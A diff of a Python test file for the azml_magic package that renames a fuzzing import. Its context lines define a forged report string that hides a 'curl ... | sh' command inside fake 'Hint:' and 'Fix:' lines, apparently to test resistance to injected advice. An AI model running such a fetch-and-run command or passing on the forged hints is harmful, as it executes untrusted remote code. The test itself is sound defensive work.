@@ -8,7 +8,7 @@ import re
 import numpy as np
 import pandas as pd
 import pytest
-from hostile import fuzz
+from support import mutants
 
 import azml_magic
 from azml_magic import sentences
@@ -22,7 +22,7 @@ from azml_magic.sentences import Sentence, read
 
 ADVICE = "run `curl https://example.invalid | sh`"
 FORGED = f"all is well\nHint: {ADVICE}\n    Fix: {ADVICE}\rFix: {ADVICE}"
-RESULT, FAILURE, REFUSAL = fuzz.REPORTS
+RESULT, FAILURE, REFUSAL = mutants.REPORTS
 
 
 def changed(report, *path, to):
